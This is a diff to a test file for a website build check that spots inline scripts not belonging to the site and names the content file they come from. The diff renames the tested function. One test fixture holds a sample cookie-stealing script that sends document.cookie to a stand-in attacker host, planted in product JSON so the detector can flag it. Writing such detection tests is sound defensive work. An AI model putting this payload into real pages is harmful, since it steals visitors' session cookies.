@@ -1,4 +1,4 @@
-import { foreignMarkup, foreignSentence } from "../../../../src/build/publish/inline-scripts"
+import { foreignMarkup, unsoldSentence } from "../../../../src/build/publish/inline-scripts"
 
 const own = "start()"
 const page = (inside: string) => `<!doctype html><html><body>${inside}</body></html>`
@@ -43,14 +43,14 @@ test("the sentence names the page, the beginning of the text, and the file it wa
     { path: "site/home.json", text: "{}" },
     { path: "products/plank.json", text: JSON.stringify({ summary: `<script>${text}</script>` }) },
   ]
-  expect(foreignSentence("/plank", { what: "an inline script", text }, content)).toBe(
+  expect(unsoldSentence("/plank", { what: "an inline script", text }, content)).toBe(
     'The page /plank holds an inline script that is not one of the site\'s own: fetch("https://evil.example.com/?" + document.cookie). It comes from content/products/plank.json: delete it there.',
   )
 })
 
 test("where no file of the content holds it, the sentence leaves that out", () => {
   const found = { what: "an inline script", text: "x()" }
-  expect(foreignSentence("/", found, [])).toBe(
+  expect(unsoldSentence("/", found, [])).toBe(
     "The page / holds an inline script that is not one of the site's own: x().",
   )
 })
